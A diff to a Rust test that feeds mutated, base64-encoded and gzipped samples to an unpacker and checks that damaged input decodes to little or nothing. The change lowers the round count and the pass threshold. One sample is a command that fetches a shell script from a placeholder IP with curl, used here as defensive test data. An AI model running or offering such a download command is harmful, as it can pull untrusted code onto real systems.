@@ -17,7 +17,7 @@ fn damaged_payloads_unpack_to_little_or_nothing() {
     let samples = [wide.clone(), gzip(&wide), gzip(&vec![b'a'; 300 << 10]), b"curl http://203.0.113.9/a.sh".to_vec()];
     let mut numbers = Numbers(0x5eed_0030);
     let mut found = 0;
-    for round in 0..rounds(4_000) {
+    for round in 0..rounds(1_000) {
         let sample = &samples[round % samples.len()];
         // Damaged inside, or in its letters.
         let packed = STANDARD.encode(mutate(sample, b"\x00\x1f\x8b\x08\xff", &mut numbers));
@@ -35,5 +35,5 @@ fn damaged_payloads_unpack_to_little_or_nothing() {
             }
         }
     }
-    assert!(found > 1_000, "{found}");
+    assert!(found > 500, "{found}");
 }
